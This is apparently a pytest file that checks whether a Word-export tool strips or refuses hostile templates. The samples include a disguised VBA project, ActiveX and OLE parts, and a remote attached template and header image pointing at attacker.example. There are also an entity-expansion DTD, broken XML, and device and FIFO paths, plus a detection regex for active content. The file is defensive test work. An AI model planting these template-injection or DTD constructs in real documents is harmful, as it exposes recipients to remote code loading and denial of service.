"""Word templates as an attacker would send them: whatever a template holds, the draft is a
plain, macro-free ``.docx``; a DTD or broken XML in any part refuses the template with a
message naming it, never a traceback.

docs/security.md names these test ids.
"""

from __future__ import annotations

import os
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from lxml import etree

from migsdg import ExportError
from migsdg.cli import main
from migsdg.word import write
from word_plans import sparse_plan

CT = "{http://schemas.openxmlformats.org/package/2006/content-types}"
REL = "{http://schemas.openxmlformats.org/package/2006/relationships}"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOTM_MAIN = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
#: What a draft may never contain, by content type or relationship type.
ACTIVE = re.compile(r"vba|activeX|oleObject|macroEnabled|keyMap|/package$", re.IGNORECASE)
EMPTY_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"</Relationships>"
)


def base_template(path: Path) -> Path:
    d = docx.Document()
    d.sections[0].header.paragraphs[0].text = "Ministry of Labour — Planning Unit"
    d.save(str(path))
    return path


def repack(
    src: Path,
    dst: Path,
    *,
    edit: Callable[[str, bytes], bytes] = lambda _, b: b,
    add: dict[str, bytes] | None = None,
) -> Path:
    """``src`` with its parts passed through ``edit`` and ``add`` added; a relationships
    part that ``edit`` changes is created empty first when the package lacks it."""
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(dst, "w") as w:
        names = z.namelist()
        for info in z.infolist():
            w.writestr(info.filename, edit(info.filename, z.read(info)))
        header = header_rels_name(src)
        if header not in names and header not in (add or {}):
            changed = edit(header, EMPTY_RELS)
            if changed != EMPTY_RELS:
                w.writestr(header, changed)
        for name, data in (add or {}).items():
            w.writestr(name, data)
    return dst


def with_rel(rels: bytes, rel_id: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def with_type(types: bytes, part: str, content_type: str) -> bytes:
    override = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    return types.replace(b"</Types>", override.encode() + b"</Types>")


def as_dotm(types: bytes) -> bytes:
    return types.replace(DOCX_MAIN.encode(), DOTM_MAIN.encode())


def header_rels_name(src: Path) -> str:
    with zipfile.ZipFile(src) as z:
        header = next(n for n in z.namelist() if re.fullmatch(r"word/header\d*\.xml", n))
    return "word/_rels/" + header.removeprefix("word/") + ".rels"


# -- payloads: (name, function building the hostile template from a clean one) -------------


def vba_under_another_name(tmp: Path, clean: Path) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return with_type(
                as_dotm(data), "word/innocent.dat", "application/vnd.ms-office.vbaProject"
            )
        if name == "word/_rels/document.xml.rels":
            return with_rel(data, "rIdV", f"{MS_REL}/vbaProject", "innocent.dat")
        return data

    return repack(clean, tmp / "t.dotm", edit=edit, add={"word/innocent.dat": b"\xd0\xcf\x11macro"})


def vba_by_content_type_only(tmp: Path, clean: Path) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = with_type(
                as_dotm(data), "customXml/item9.bin", "application/vnd.ms-office.vbaProject"
            )
            return with_type(data, "word/vbaData2.xml", "application/vnd.ms-word.vbaData+xml")
        return data

    add = {"customXml/item9.bin": b"\xd0\xcf\x11macro", "word/vbaData2.xml": b"<wne:vbaSuppData/>"}
    return repack(clean, tmp / "t.docm", edit=edit, add=add)


def activex_in_header(tmp: Path, clean: Path) -> Path:
    header_rels = header_rels_name(clean)

    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = with_type(data, "word/activeX/ax1.xml", "application/vnd.ms-office.activeX+xml")
            return with_type(data, "word/activeX/ax1.bin", "application/vnd.ms-office.activeX")
        if name == header_rels:
            return with_rel(data, "rIdAx", f"{OFFICE_REL}/control", "activeX/ax1.xml")
        return data

    add = {
        "word/activeX/ax1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
        "word/activeX/_rels/ax1.xml.rels": (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
            b'activeXControlBinary" Target="ax1.bin"/></Relationships>'
        ),
        "word/activeX/ax1.bin": b"\x00control",
    }
    return repack(clean, tmp / "t.docx", edit=edit, add=add)


def ole_object(tmp: Path, clean: Path) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return with_type(
                data,
                "word/embeddings/oleObject1.bin",
                "application/vnd.openxmlformats-officedocument.oleObject",
            )
        if name == "word/_rels/document.xml.rels":
            return with_rel(data, "rIdO", f"{OFFICE_REL}/oleObject", "embeddings/oleObject1.bin")
        return data

    add = {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11ole"}
    return repack(clean, tmp / "t.docx", edit=edit, add=add)


def remote_attached_template(tmp: Path, clean: Path) -> Path:
    def edit(name: str, data: bytes) -> bytes:
        if name == "word/settings.xml":
            return (
                data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom')
                if b"xmlns:r=" in data
                else data
            )
        return data

    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdT" Type="'
        + f"{OFFICE_REL}/attachedTemplate".encode()
        + b'" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return repack(clean, tmp / "t.docx", edit=edit, add={"word/_rels/settings.xml.rels": rels})


def remote_image_in_header(tmp: Path, clean: Path) -> Path:
    header_rels = header_rels_name(clean)

    def edit(name: str, data: bytes) -> bytes:
        if name == header_rels:
            return with_rel(
                data, "rIdImg", f"{OFFICE_REL}/image", "http://attacker.example/p.png", True
            )
        return data

    return repack(clean, tmp / "t.docx", edit=edit)


ACTIVE_PAYLOADS = {
    "vba-under-another-name": vba_under_another_name,
    "vba-by-content-type-only": vba_by_content_type_only,
    "activex-in-header": activex_in_header,
    "ole-object": ole_object,
    "remote-attached-template": remote_attached_template,
    "remote-image-in-header": remote_image_in_header,
}


def assert_plain_docx(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        names = set(z.namelist())
        types = etree.fromstring(z.read("[Content_Types].xml"))
        kinds = [el.get("ContentType") for el in types]
        assert not [k for k in kinds if ACTIVE.search(k)], kinds
        main_part = next(
            el.get("PartName")
            for el in types.iter(f"{CT}Override")
            if el.get("PartName") == "/word/document.xml"
        )
        assert main_part
        assert DOCX_MAIN in kinds
        for name in names:
            assert not re.search(r"vba|activeX|embeddings|innocent|item9", name), name
            if name.endswith(".rels"):
                for rel in etree.fromstring(z.read(name)).iter(f"{REL}Relationship"):
                    assert not ACTIVE.search(rel.get("Type")), (name, rel.get("Type"))
                    if rel.get("TargetMode") == "External":
                        assert rel.get("Type").endswith("/hyperlink"), (name, rel.get("Type"))
        assert b"attachedTemplate" not in z.read("word/settings.xml")
    # Still a document Word's own library opens, with the template's header.
    d = docx.Document(str(path))
    assert d.sections[0].header.paragraphs[0].text.startswith("Ministry of Labour")


@pytest.mark.parametrize("payload", list(ACTIVE_PAYLOADS))
def test_active_content_never_reaches_the_draft(payload: str, tmp_path: Path) -> None:
    clean = base_template(tmp_path / "clean.docx")
    hostile = ACTIVE_PAYLOADS[payload](tmp_path, clean)
    out = tmp_path / "draft.docx"
    write(sparse_plan(), out, template=hostile)
    assert_plain_docx(out)


def test_a_hyperlink_in_the_template_header_is_kept(tmp_path: Path) -> None:
    clean = base_template(tmp_path / "clean.docx")
    header_rels = header_rels_name(clean)
    link = "https://www.example.org/ministry"

    def edit(name: str, data: bytes) -> bytes:
        if name == header_rels:
            return with_rel(data, "rIdLink", f"{OFFICE_REL}/hyperlink", link, True)
        return data

    template = repack(clean, tmp_path / "linked.docx", edit=edit)
    out = tmp_path / "draft.docx"
    write(sparse_plan(), out, template=template)
    with zipfile.ZipFile(out) as z:
        assert link.encode() in z.read(header_rels)


# -- DTDs and broken XML --------------------------------------------------------------------

DTD = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>\n'
PARTS_WITH_DTD = [
    "[Content_Types].xml",
    "_rels/.rels",
    "word/_rels/document.xml.rels",
    "word/document.xml",
    "word/styles.xml",
    "word/settings.xml",
    "docProps/core.xml",
    "docProps/app.xml",
]


def with_dtd(data: bytes) -> bytes:
    body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
    return DTD + body


@pytest.mark.parametrize("part", PARTS_WITH_DTD)
def test_a_dtd_in_any_part_refuses_the_template(
    part: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clean = base_template(tmp_path / "clean.docx")
    hostile = repack(
        clean, tmp_path / "dtd.docx", edit=lambda n, b: with_dtd(b) if n == part else b
    )
    out = tmp_path / "draft.docx"
    with pytest.raises(ExportError, match=re.escape(part)) as info:
        write(sparse_plan(), out, template=hostile)
    assert "DTD" in str(info.value)
    assert not out.exists()


@pytest.mark.parametrize(
    "part", ["word/styles.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"]
)
def test_broken_xml_in_a_template_is_a_clear_error_through_the_cli(
    part: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clean = base_template(tmp_path / "clean.docx")
    hostile = repack(clean, tmp_path / "broken.docx", edit=lambda n, b: b[:-40] if n == part else b)
    plan = tmp_path / "plan.yaml"
    import migsdg

    migsdg.save_plan(sparse_plan(), plan)
    code = main(["export", str(plan), "-o", str(tmp_path / "d.docx"), "--template", str(hostile)])
    err = capsys.readouterr().err
    assert code == 2
    assert "Traceback" not in err and str(hostile) in err and "well-formed" in err


def test_a_template_that_is_a_device_or_fifo_is_refused(tmp_path: Path) -> None:
    link = tmp_path / "zero.docx"
    link.symlink_to("/dev/zero")
    fifo = tmp_path / "fifo.docx"
    os.mkfifo(fifo)
    for template in (link, fifo):
        with pytest.raises(ExportError, match="not a file"):
            write(sparse_plan(), tmp_path / "d.docx", template=template)
